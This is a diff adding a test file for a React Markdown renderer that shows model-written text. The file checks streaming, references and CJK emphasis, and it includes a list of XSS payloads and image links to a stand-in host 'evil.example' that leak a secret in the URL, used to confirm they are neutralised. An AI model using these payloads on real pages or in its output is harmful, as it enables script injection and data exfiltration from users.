@@ -1,0 +1,133 @@
+import { render, waitFor } from '@testing-library/react';
+import * as fc from 'fast-check';
+import { renderToStaticMarkup } from 'react-dom/server';
+import { beforeAll, describe, expect, test } from 'vitest';
+import { Markdown } from './markdown.tsx';
+import { ParsedBlock } from './parsed-block.tsx';
+import { splitBlocks } from './split-blocks.ts';
+import { document as documents } from './testing/documents.ts';
+
+/** Renders until the parser, which is loaded on demand, has taken over. */
+async function show(text: string, live = false) {
+  const { container, rerender, unmount } = render(<Markdown text={text} live={live} />);
+  await waitFor(() => expect(isParsed(container)).toBe(true));
+  const grow = (next: string, more: boolean) => {
+    rerender(<Markdown text={next} live={more} />);
+    expect(isParsed(container)).toBe(true);
+  };
+  return { container, grow, unmount };
+}
+
+function isParsed(container: HTMLElement) {
+  return container.querySelector('.whitespace-pre-wrap') === null;
+}
+
+beforeAll(async () => {
+  await show('warm');
+});
+
+describe('what a model writes never runs and never loads', () => {
+  const payloads = [
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '[x](javascript:alert(1))',
+    '[x](JaVaScRiPt:alert(1) "t")',
+    '![x](https://evil.example/?d=SECRET)',
+    '![a][r]\n\n[r]: https://evil.example/?d=SECRET',
+    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+    '<picture><source srcset="https://evil.example/a"><img src="https://evil.example/b"></picture>',
+    '<div style="background:url(https://evil.example/c)" onclick="alert(1)">x</div>',
+    '<https://evil.example/a"onmouseover="alert(1)>',
+    '```html\n<script>alert(1)</script>\n```',
+  ];
+  const loading =
+    'script,img,iframe,object,embed,video,audio,picture,source,link,style,form,svg:not(.lucide)';
+
+  test.each(payloads)('%s', async (payload) => {
+    for (const text of [payload, `words ${payload} words`, `- ${payload}`, `| a |\n|---|\n| ${payload} |`]) {
+      const { container } = await show(text);
+      expect([...container.querySelectorAll(loading)]).toEqual([]);
+      for (const element of container.querySelectorAll('*'))
+        for (const { name, value } of element.attributes) {
+          expect(name).not.toMatch(/^on/);
+          expect(`${name}=${value}`).not.toMatch(/javascript:|data:|url\(/i);
+          if (name === 'src' || name === 'srcset') throw new Error(`${name} on ${element.tagName}`);
+        }
+      for (const link of container.querySelectorAll('a')) {
+        expect(link.protocol).toMatch(/^(?:https?|mailto):$/);
+        expect(link.rel).toContain('noopener');
+        expect(link.target).toBe('_blank');
+      }
+    }
+  });
+});
+
+test('shows an image as a link that names it', async () => {
+  const { container } = await show('![a chart](https://a.example/c.png)');
+  expect(container.querySelector('a')?.href).toBe('https://a.example/c.png');
+  expect(container.textContent).toBe('a chart');
+});
+
+test('shows raw HTML as text', async () => {
+  const { container } = await show('<b>not bold</b>');
+  expect(container.querySelector('b')).toBeNull();
+  expect(container.textContent).toContain('<b>not bold</b>');
+});
+
+test('finds emphasis beside Chinese punctuation', async () => {
+  const { container } = await show('**结论：**这是对的。');
+  expect(container.querySelector('strong')?.textContent).toBe('结论：');
+});
+
+test('resolves a reference to a definition in another block', async () => {
+  const { container } = await show('See [this][r].\n\nMore.\n\n[r]: https://a.example/');
+  expect(container.querySelector('a')?.href).toBe('https://a.example/');
+});
+
+test('keeps the elements of finished blocks while the text grows', async () => {
+  const { container, grow } = await show('First **block**.\n\nSecond', true);
+  const first = container.querySelector('strong');
+  grow('First **block**.\n\nSecond goes on\n\nThird', true);
+  expect(container.querySelector('strong')).toBe(first);
+  expect(container.querySelectorAll('.block')).toHaveLength(3);
+});
+
+test('shows a half-written ending as if it were whole, and the end as it is', async () => {
+  const { container, grow } = await show('a **bo', true);
+  expect(container.querySelector('strong')?.textContent).toBe('bo');
+  grow('a **bo', false);
+  expect(container.querySelector('strong')).toBeNull();
+  expect(container.textContent).toBe('a **bo');
+});
+
+test('has the same final elements whatever the pieces it arrived in', () => {
+  fc.assert(
+    fc.property(documents, fc.array(fc.nat(), { maxLength: 8 }), (text, cuts) => {
+      const pieces = render(<Markdown text="" live />);
+      for (const end of cuts.map((cut) => cut % (text.length + 1)).sort((a, b) => a - b))
+        pieces.rerender(<Markdown text={text.slice(0, end)} live />);
+      pieces.rerender(<Markdown text={text} />);
+      const whole = render(<Markdown text={text} />);
+      expect(isParsed(whole.container)).toBe(true);
+      expect(pieces.container.innerHTML).toBe(whole.container.innerHTML);
+      pieces.unmount();
+      whole.unmount();
+    }),
+    { numRuns: 30 },
+  );
+});
+
+test('looks in blocks as it does in one piece', () => {
+  const html = (text: string) =>
+    renderToStaticMarkup(<ParsedBlock text={text} live={false} />)
+      .slice('<div class="block">'.length, -'</div>'.length)
+      .replace(/\s*\n\s*/g, '');
+  fc.assert(
+    fc.property(documents, (text) => {
+      expect(splitBlocks(text).map(html).join('')).toBe(html(text));
+    }),
+    { numRuns: 150 },
+  );
+});
